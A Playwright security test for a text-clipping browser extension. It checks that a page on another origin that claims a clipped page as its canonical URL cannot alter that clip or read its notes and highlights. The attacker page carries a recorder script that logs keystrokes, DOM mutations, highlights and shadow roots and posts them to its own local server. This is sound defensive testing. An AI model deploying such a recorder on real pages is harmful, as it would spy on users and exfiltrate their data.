/**
 * A page on another site cannot take over a clip by declaring its canonical URL (production build, real shortcuts).
 * The victim page is clipped on 127.0.0.1 and given a highlight with a note; the attacker's copy on localhost
 * declares the victim's address as canonical, records everything its scripts can see and posts it to its own
 * server. Clipping and highlighting the attacker's page leaves the victim's clip as it was, and the attacker's
 * log holds neither the note nor any painted range.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { BUILD_PROD, launchWithExtension, pressKeys, readClips, readStores, waitFor, type Browser } from './harness';

const NOTE = '机密批注-7731';
const PASSAGE = '第三条 数据处理者应当建立健全全流程数据安全管理制度。';
const BODY = `<article><h1>{TITLE}</h1><p>第一条 为了规范数据处理活动，制定本办法。</p><p>第二条 本办法适用于本市行政区域内的数据处理活动。</p><p>${PASSAGE}</p><p>第四条 本办法自发布之日起施行。</p></article>`;

const RECORDER = `<script>
const log = [];
const rec = (kind, v) => log.push([kind, String(v).slice(0, 4000)]);
const orig = Element.prototype.attachShadow;
Element.prototype.attachShadow = function (o) { const r = orig.call(this, o); rec('shadow', o && o.mode); return r; };
for (const t of ['keydown', 'keyup', 'input', 'beforeinput']) addEventListener(t, (e) => rec('key', e.key || e.data), true);
new MutationObserver((ms) => { for (const m of ms) rec('mutation', m.type + ' ' + (m.attributeName || '') + ' ' + [...m.addedNodes].map((n) => n.outerHTML || n.textContent).join('|')); })
  .observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
setInterval(() => {
  if (window.CSS && CSS.highlights) CSS.highlights.forEach((h, name) => { for (const r of h) rec('highlight', name + ':' + r.toString()); });
  for (const m of document.querySelectorAll('mark, [data-clausemark-id]')) rec('mark', m.outerHTML);
  for (const el of document.querySelectorAll('*')) if (el.shadowRoot) rec('open-root', el.shadowRoot.innerHTML);
  // synthetic clicks on every paragraph: a highlighter that trusts them would open its panel
  for (const p of document.querySelectorAll('p')) { const r = p.getBoundingClientRect(); p.dispatchEvent(new MouseEvent('click', { bubbles: true, clientX: r.left + 5, clientY: r.top + 5 })); }
  fetch('/log', { method: 'POST', body: JSON.stringify(log) });
}, 300);
</script>`;

class TwoSites {
  private server: Server;
  port = 0;
  logs: string[] = [];
  constructor() {
    this.server = createServer((req, res) => {
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      if (req.method === 'POST' && path === '/log') {
        let body = '';
        req.on('data', (c) => (body += c));
        req.on('end', () => (this.logs.push(body), res.writeHead(204).end()));
        return;
      }
      const victim = `http://127.0.0.1:${this.port}/victim/`;
      const pages: Record<string, string> = {
        '/victim/': `<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>某市数据安全管理办法</title></head><body>${BODY.replace('{TITLE}', '某市数据安全管理办法')}</body></html>`,
        '/attacker/': `<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>冒充的数据安全办法</title><link rel="canonical" href="${victim}">${RECORDER}</head><body>${BODY.replace('{TITLE}', '冒充的数据安全办法')}</body></html>`,
      };
      const html = pages[path];
      if (!html) return void res.writeHead(404).end();
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(html);
    });
  }
  async start(): Promise<void> {
    await new Promise<void>((r) => this.server.listen(0, '127.0.0.1', r));
    this.port = (this.server.address() as { port: number }).port;
  }
  stop(): Promise<void> {
    return new Promise((r) => this.server.close(() => r()));
  }
}

async function select(page: Page, text: string): Promise<void> {
  await page.evaluate((t) => {
    const p = [...document.querySelectorAll('p')].find((x) => x.textContent === t)!;
    const r = document.createRange();
    r.selectNodeContents(p);
    getSelection()!.removeAllRanges();
    getSelection()!.addRange(r);
  }, text);
}

describe(
  'a page on another site declaring a clipped page as its canonical URL',
  { skip: !process.env.DISPLAY && 'needs a display (run under xvfb-run)' },
  () => {
    const sites = new TwoSites();
    let b: Browser;
    before(async () => {
      await sites.start();
      b = await launchWithExtension(BUILD_PROD);
    });
    after(async () => {
      await b.close();
      await sites.stop();
    });

    it('neither changes the victim clip nor learns its highlights and notes', async () => {
      const watcher = await b.context.newPage();
      await watcher.goto(`chrome-extension://${b.extId}/popup.html`);
      // The user highlights a passage of the victim page (Alt+Shift+H clips it first) and writes a note on it.
      const victim = await b.context.newPage();
      await victim.goto(`http://127.0.0.1:${sites.port}/victim/`);
      await victim.bringToFront();
      await select(victim, PASSAGE);
      pressKeys('某市数据安全管理办法', 'alt+shift+h');
      const [h] = await waitFor(
        async () => {
          const hs = (await readStores(watcher, ['highlights'])).highlights as { id: string }[];
          return hs.length ? hs : null;
          // Alt+Shift+H clips the page before it highlights: a clip and a highlight, not one step (it once ran past 10 s in CI)
        },
        'the highlight',
        20_000,
      );
      await watcher.evaluate(
        ([id, note]) =>
          new Promise<void>((resolve, reject) => {
            const req = indexedDB.open('clausemark');
            req.onsuccess = () => {
              const tx = req.result.transaction('highlights', 'readwrite');
              const store = tx.objectStore('highlights');
              const get = store.get(id!);
              get.onsuccess = () => store.put({ ...get.result, note });
              tx.oncomplete = () => (req.result.close(), resolve());
              tx.onerror = () => reject(tx.error);
            };
          }),
        [h!.id, NOTE],
      );
      const [before] = await readClips(watcher);
      assert.ok(before);

      // The attacker's copy is clipped, then highlighted, by the same user with the same shortcuts.
      const attacker = await b.context.newPage();
      await attacker.goto(`http://localhost:${sites.port}/attacker/`);
      await attacker.bringToFront();
      pressKeys('冒充的数据安全办法', 'alt+shift+s');
      await waitFor(async () => (await readClips(watcher)).length === 2, 'the attacker page clipped as a clip of its own');
      await select(attacker, '第一条 为了规范数据处理活动，制定本办法。');
      pressKeys('冒充的数据安全办法', 'alt+shift+h');
      await waitFor(
        async () => ((await readStores(watcher, ['highlights'])).highlights as unknown[]).length === 2,
        'the attacker page highlight',
      );
      await attacker.waitForTimeout(1500); // the recorder posts every 300 ms

      const clips = await readClips(watcher);
      assert.deepEqual(
        clips.find((c) => c.id === before.id),
        before,
        'the victim clip is unchanged',
      );
      const own = clips.find((c) => c.id !== before.id)!;
      assert.equal(own.url, `http://localhost:${sites.port}/attacker/`);
      assert.equal(own.canonicalUrl, `http://localhost:${sites.port}/attacker/`);
      const hs = (await readStores(watcher, ['highlights'])).highlights as { clipId: string; note: string }[];
      assert.equal(hs.find((x) => x.note === NOTE)?.clipId, before.id);

      assert.ok(sites.logs.length > 0, 'the attacker page posted its log');
      const seen = sites.logs.join('\n');
      assert.ok(!seen.includes(NOTE), 'the attacker saw the victim note');
      const entries = JSON.parse(sites.logs[sites.logs.length - 1]!) as [string, string][];
      assert.deepEqual(
        entries.filter(([k, v]) => (k === 'highlight' || k === 'mark' || k === 'open-root') && v.includes(PASSAGE)),
        [],
        'the attacker saw the victim passage painted',
      );
      for (const p of [watcher, victim, attacker]) await p.close();
    });
  },
);
